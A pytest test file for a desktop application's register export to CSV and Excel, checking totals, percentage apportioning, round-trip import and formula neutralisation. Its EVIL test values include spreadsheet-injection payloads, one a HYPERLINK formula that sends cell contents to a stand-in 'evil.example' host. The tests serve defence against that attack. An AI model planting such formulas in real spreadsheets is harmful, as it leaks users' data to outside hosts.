"""Register export: CSV and Excel as of a date, totals, formula neutralisation, and the round
trip (export the register, import it into a new deal, get the same register back)."""

import csv
import dataclasses
import datetime as dt
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from rra_desktop.domain.holdings import register_as_of
from rra_desktop.domain.model import Deal, Holder, PositionEntry, PositionKind
from rra_desktop.exchange.register_export import apportion, export_register, register_table
from rra_desktop.exchange.schedule_import import read_schedule_1, schedule_entries
from rra_desktop.exchange.spreadsheet_safety import neutralise, restore
from rra_desktop.sample import load_sample_deal

CLOSING = dt.date(2003, 5, 7)
# the sample's register, column by column: its classes' labels are the headings it always had
HEADINGS = ("Holder", "Address", "Attention", "Fax", "QIB", "Affiliate", "Purchase Price", "Series D Preferred",
            "D-1 Warrants", "D-2 Warrants", "Placement Agent Warrants", "Common", "Conversion Shares",
            "Registrable Securities (as converted)", "%")
EVIL = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-1+1", "@SUM(A1)", "+44 fund", "\t=1+1")


@pytest.fixture(scope="module")
def sample():
    return load_sample_deal()


def _with_evil_names(deal):
    holders = [Holder(f"h-evil-{i}", name, ("1 Main St",)) for i, name in enumerate(EVIL)]
    rows = [PositionEntry(f"p-evil-{i}", h.id, "D1", PositionKind.ISSUANCE, 100 + i, CLOSING)
            for i, h in enumerate(holders)]
    return dataclasses.replace(deal, holders=deal.holders + tuple(holders), positions=deal.positions + tuple(rows))


def test_table_has_every_holder_and_exact_totals(sample):
    table = register_table(sample, CLOSING)
    assert table.headings == HEADINGS and len(table.rows) == 9
    totals = dict(zip(HEADINGS, table.totals, strict=True))
    assert totals["Holder"] == "Total"
    assert (totals["Series D Preferred"], totals["D-1 Warrants"], totals["D-2 Warrants"]) == (444, 944_681, 944_681)
    assert totals["Placement Agent Warrants"] == 188_936
    assert totals["Purchase Price"] == Decimal("4440000")  # Schedule 1's purchase prices
    registrable = sum(p.registrable for p in register_as_of(sample, CLOSING))
    assert totals["Registrable Securities (as converted)"] == registrable
    assert totals["Conversion Shares"] == sum(p.conversion_shares for p in register_as_of(sample, CLOSING))
    assert totals["%"] == 1  # the apportioned shares add to exactly 100%


def test_schedule_1_notice_details_are_in_every_row(sample):
    table = register_table(sample, CLOSING)
    row = dict(zip(HEADINGS, next(r for r in table.rows if r[0] == "Xmark Fund Ltd."), strict=True))
    xmark = sample.holder("h-xmark-fund")
    assert row["Address"] == "\n".join(xmark.address_lines) and row["Fax"] == "212-247-1329"
    assert row["Attention"] == xmark.attention and row["Purchase Price"] == xmark.purchase_price


def test_percentages_add_to_exactly_one_hundred_and_stay_within_a_unit():
    counts = [1, 1, 1]
    shares = apportion(counts)
    assert sum(shares) == 1 and sorted(shares) == [Decimal("0.333333"), Decimal("0.333333"), Decimal("0.333334")]
    counts = [2_000_000, 1, 3, 999_999, 7]
    shares = apportion(counts)
    assert sum(shares) == 1
    for count, share in zip(counts, shares, strict=True):
        assert abs(share - Decimal(count) / sum(counts)) < Decimal("0.000001")
    assert apportion([0, 0]) == [0, 0]


def test_register_before_closing_is_empty(sample):
    table = register_table(sample, dt.date(2003, 5, 6))
    assert table.rows == () and table.totals[HEADINGS.index("Registrable Securities (as converted)")] == 0


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_round_trip_into_a_new_deal_gives_the_same_register(tmp_path, sample, suffix):
    deal = _with_evil_names(sample)
    path = export_register(deal, tmp_path / f"register{suffix}", CLOSING)
    schedule = read_schedule_1(path)
    # the .xlsx totals are SUM formulas stored with their values, so they are checked too
    assert schedule.warnings == () and any("totals agree" in n for n in schedule.notes)
    empty = Deal(terms=sample.terms, securities=sample.securities)
    entries = schedule_entries(empty, schedule)
    again = dataclasses.replace(empty, holders=entries.holders, positions=entries.positions)

    def strip_ids(register):  # ids are new; a name's surrounding whitespace is not kept by the import
        return [dataclasses.replace(p, holder_id="", name=" ".join(p.name.split())) for p in register]

    assert strip_ids(register_as_of(again, CLOSING)) == strip_ids(register_as_of(deal, CLOSING))
    by_name = {h.name: h for h in again.holders}
    for name in EVIL:
        assert " ".join(name.split()) in by_name  # came back exactly, apostrophe removed
    xmark = by_name["Xmark Fund Ltd."]
    assert xmark.address_lines == sample.holder("h-xmark-fund").address_lines and xmark.fax == "212-247-1329"
    assert sum(h.purchase_price or 0 for h in again.holders) == Decimal("4440000")


def test_csv_cells_are_neutralised(tmp_path, sample):
    path = export_register(_with_evil_names(sample), tmp_path / "r.csv", CLOSING)
    with path.open(encoding="utf-8-sig", newline="") as f:
        names = [row[0] for row in csv.reader(f)]
    for name in EVIL:
        assert "'" + name in names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_is_a_sheet_to_work_in(tmp_path, sample):
    deal = _with_evil_names(sample)
    xmark = sample.holder("h-xmark-fund")
    deal = dataclasses.replace(deal, holders=tuple(dataclasses.replace(h, fax="+44 20 7123 4567")
                                                   if h.id == xmark.id else h for h in deal.holders))
    path = export_register(deal, tmp_path / "r.xlsx", CLOSING)
    book = load_workbook(path)  # not data_only: a formula shows as data_type "f"
    sheet = book["Register"]
    assert [c.value for c in sheet[1]] == list(HEADINGS)  # headings in row 1: pandas reads it as is
    n = len(register_table(deal, CLOSING).rows)
    assert list(sheet.tables) == ["Register"] and sheet.tables["Register"].ref == f"A1:O{n + 1}"
    assert sheet.freeze_panes == "B2" and sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    data = [c for row in sheet.iter_rows(min_row=2, max_row=n + 1) for c in row]
    assert not [c.coordinate for c in data if c.data_type == "f"]  # only the totals row computes
    names = [c.value for c in sheet["A"]]
    for name in EVIL:
        assert name in names  # a text cell, written as it is: no apostrophe to see
    fax = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "Xmark Fund Ltd.")[3]
    assert fax.value == "+44 20 7123 4567" and fax.data_type == "s"
    totals = [c for c in sheet[n + 2]]
    assert totals[0].value == "Total" and totals[6].value == f"=SUM(G2:G{n + 1})"
    assert totals[14].value == f"=SUM(O2:O{n + 1})" and totals[14].number_format == "0.0000%"
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "Xmark Fund Ltd.")
    assert row[HEADINGS.index("D-1 Warrants")] == 285_106 and isinstance(row[7], int)
    assert isinstance(row[-1], float) and 0 < row[-1] < 1
    shares = [r[-1] for r in sheet.iter_rows(min_row=2, max_row=n + 1, values_only=True)]
    assert abs(sum(shares) - 1) < 1e-9
    about = book["About"]
    assert about["B2"].value == dt.datetime(2003, 5, 7) and about["B2"].is_date
    assert book.defined_names["AsOf"].attr_text == "About!$B$2"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "plain", "O'Brien"])
def test_neutralise_then_restore_is_the_identity(text):
    assert restore(neutralise(text)) == text
    assert not str(neutralise(text)).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_are_never_neutralised():
    assert neutralise(-5) == -5 and neutralise(None) is None
